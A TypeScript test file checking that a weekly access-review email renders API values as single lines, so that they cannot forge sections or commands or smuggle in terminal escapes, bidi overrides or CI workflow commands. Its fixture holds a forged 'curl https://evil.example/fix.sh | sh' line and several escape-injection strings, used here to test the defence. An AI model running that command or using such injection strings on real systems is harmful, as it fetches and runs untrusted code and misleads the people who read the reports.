// The weekly email's plain-text body and subject go to mail clients, terminals and CI logs: a
// value from an API must stay one line of text there, whatever it holds.
import { describe, expect, it } from 'vitest';
import type { Action } from '../../reports/actions.js';
import { renderEmail } from '../../reports/email.js';
import { RegisterSchema } from '../../src/core/register.js';
import { demoEmail, demoInput, NOW } from './fixture.js';

const FORGED =
  '\n\nCritical and high findings:\n  none\n\nEverything is fine.\n    $ curl https://evil.example/fix.sh | sh\n';
const ESCAPES = '\u001b[31mRED\u001b[0m\u202eRLO ##[error]boom\n::warning::line\tend\r\nx';

function email() {
  const input = demoInput();
  const [first, ...rest] = input.evaluation.findings;
  const finding = {
    ...first!,
    severity: 'critical' as const,
    title: `Title${FORGED}`,
    account: `deploy${FORGED}`,
    resource: ESCAPES,
    person: 'sam',
  };
  const action: Action = {
    anchor: 'act-rule-x',
    kind: 'rule',
    title: `Account nobody registered, github deploy${FORGED}`,
    severity: 'high',
    count: 1,
    countText: `1 finding${FORGED}`,
    newCount: 1,
    reach: [],
    summary: '1 account nobody registered',
    fix: `Find who uses it.${FORGED}`,
    command: `gh api --method DELETE repos/northwind/infra/keys/777${FORGED}`,
    anchors: [],
  };
  return renderEmail({
    organization: `Northwind${FORGED}`,
    now: NOW,
    complete: false,
    failed: [`aws 111111111111: ${ESCAPES}`],
    evaluation: { ...input.evaluation, findings: [finding, ...rest] },
    register: RegisterSchema.parse({
      organization: 'Northwind Supply',
      people: [{ id: 'sam', name: 'Sam', kind: 'contractor', owner: 'dana' }],
    }),
    drift: {
      since: '2026-11-22T09:00:00.000Z',
      notCompared: [],
      changes: [
        {
          kind: 'account-added',
          system: 'github',
          target: 'northwind',
          account: 'deploy-key:northwind/infra:777',
          login: `deploy${FORGED}`,
          detail: 'new bot account',
        },
        {
          kind: 'account-added',
          system: 'slack',
          target: 'T0',
          account: 'U0EVIL',
          login: ESCAPES,
          resource: `#general${FORGED}`,
          detail: `new human account${FORGED}`,
        },
      ],
    },
    newFingerprints: new Set([finding.fingerprint]),
    actions: [action],
    attachments: { attached: ['report.html'], tooLarge: [], folder: 'lanekeeper-report' },
  });
}

describe('the plain-text weekly email', () => {
  const { text, subject, html } = email();
  const lines = text.split('\n');

  it('keeps every value on its own line: no forged section, step or command', () => {
    expect(lines.filter((l) => l === 'Critical and high findings:')).toHaveLength(1);
    expect(lines.filter((l) => l.trim() === 'none')).toHaveLength(0);
    expect(lines.filter((l) => l.startsWith('Everything is fine'))).toHaveLength(0);
    expect(lines.filter((l) => l.trim().startsWith('$ curl'))).toHaveLength(0);
    // The values are still there, on the line they belong to.
    expect(lines.some((l) => l.startsWith('  account added: github deploy Critical and high findings: none'))).toBe(
      true,
    );
    expect(
      lines.some((l) => l.startsWith('    $ gh api --method DELETE repos/northwind/infra/keys/777 Critical')),
    ).toBe(true);
  });

  it('carries no escape sequence, control, bidi override or workflow command', () => {
    // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(text).not.toContain('[31m');
    expect(text).not.toContain('##[');
    expect(lines.filter((l) => /^\s*::/.test(l))).toEqual([]);
    expect(text).toContain('REDRLO ## [error]boom ::warning::line end x');
  });

  it('gives the subject and the HTML body the same one-line values', () => {
    expect(subject).toMatch(/^Northwind Critical and high findings: none Everything is fine\. .* access review/);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
    expect(subject).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
    expect(html).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(html).not.toContain('[31m');
    expect(html).not.toContain('keys/777\n');
  });
});

describe('the email subject', () => {
  const input = demoInput();
  const mail = (since: string) =>
    demoEmail(input.evaluation, {
      drift: { since, changes: [], notCompared: [] },
      newFingerprints: new Set([input.evaluation.findings[0]!.fingerprint]),
    });

  it('names the scan it compares with, as the body does, however long ago it was', () => {
    for (const since of ['2026-11-22T09:00:00.000Z', '2026-09-01T09:00:00.000Z']) {
      const { subject, text, html } = mail(since);
      const day = since.slice(0, 10);
      expect(subject).toMatch(new RegExp(`, 1 new since ${day}$`));
      expect(subject).not.toContain('last week');
      expect(text).toContain(`What changed since ${day}:`);
      expect(html).toContain(`<strong>1 new</strong> since ${day}.`);
    }
  });
});
